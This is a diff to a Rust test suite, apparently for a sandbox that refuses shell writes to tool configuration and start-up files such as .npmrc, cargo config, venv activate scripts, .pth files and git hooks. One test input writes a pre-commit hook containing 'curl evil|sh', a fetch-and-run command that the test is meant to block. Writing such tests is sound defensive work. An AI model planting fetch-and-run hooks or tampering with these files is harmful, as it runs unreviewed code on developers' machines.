@@ -62,6 +62,8 @@ fn project(config: &str, home_config: &str) -> Fixture {
             &ws.join(".venv/lib/python3.11/site-packages/placeholder.txt"),
             "x\n",
         );
+        write(&ws.join(".venv/bin/activate"), "# sourced by the shell\n");
+        write(&ws.join(".npmrc"), "save-exact=true\n");
         if !home_config.is_empty() {
             write(&home.join(".gitconfig"), &home_config);
         }
@@ -224,4 +226,84 @@ fn python_m_runs_only_modules_with_a_model() {
     }
     allowed(&f, &MODES, "python3 -m pytest");
     allowed(&f, &MODES, "python3 -m venv .venv2");
+}
+
+/// Tools' configuration and start-up files that name a program, options
+/// for a JVM, a toolchain or a package index: the next ordinary build or
+/// interpreter start runs what they name.
+#[test]
+fn tool_configurations_that_name_code_to_run_are_protected() {
+    let f = project("", "");
+    for target in [
+        ".npmrc",
+        "sub/.npmrc",
+        ".yarnrc.yml",
+        "uv.toml",
+        ".cargo/config.toml",
+        ".cargo/config",
+        "rust-toolchain.toml",
+        "rust-toolchain",
+        ".mvn/jvm.config",
+        ".mvn/maven.config",
+        "gradle.properties",
+        "gradle/wrapper/gradle-wrapper.properties",
+        ".bazelrc",
+        ".pre-commit-config.yaml",
+        ".bundle/config",
+        ".pdm-python",
+        "nuget.config",
+        ".Rprofile",
+        ".irbrc",
+        ".pryrc",
+        ".pdbrc",
+        ".ghci",
+        ".octaverc",
+        ".venv/bin/activate",
+        ".venv/bin/activate.fish",
+    ] {
+        refused(
+            &f,
+            &MODES,
+            &format!("printf 'x\\n' > {target}"),
+            "FILE_ACCESS_DENIED",
+        );
+        refused(
+            &f,
+            &MODES,
+            &format!("cp README.md {target}"),
+            "FILE_ACCESS_DENIED",
+        );
+    }
+    // The directory rules: the same names elsewhere are ordinary files.
+    for cmd in [
+        "echo x > config",
+        "echo x > config.toml",
+        "echo x > bin/activate",
+        "echo x > jvm.config",
+    ] {
+        allowed(&f, &MODES, cmd);
+    }
+    // Reading them stays allowed.
+    allowed(&f, &MODES, "cat .npmrc");
+}
+
+/// On a case-insensitive file system `.YARNRC` is `.yarnrc`: the names are
+/// compared without case, as `.git` is.
+#[test]
+fn protected_names_in_another_case_are_protected() {
+    let f = project(HUSKY, "");
+    for cmd in [
+        "printf 'yarn-path \"./x.js\"\\n' > .YARNRC",
+        "printf 'x\\n' > .PNPMFILE.CJS",
+        "printf 'x\\n' > BUNFIG.TOML",
+        "printf 'x\\n' > .venv/PIP.CONF",
+        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .HUSKY/pre-commit",
+        "printf 'x\\n' > .NPMRC",
+        "printf 'x\\n' > .Cargo/Config.toml",
+        "printf 'x\\n' > .venv/lib/python3.11/site-packages/ZZ.PTH",
+        "printf 'x\\n' > .venv/lib/python3.11/site-packages/SiteCustomize.py",
+    ] {
+        refused(&f, &MODES, cmd, "FILE_ACCESS_DENIED");
+    }
+    allowed(&f, &MODES, "echo x > README.txt");
 }
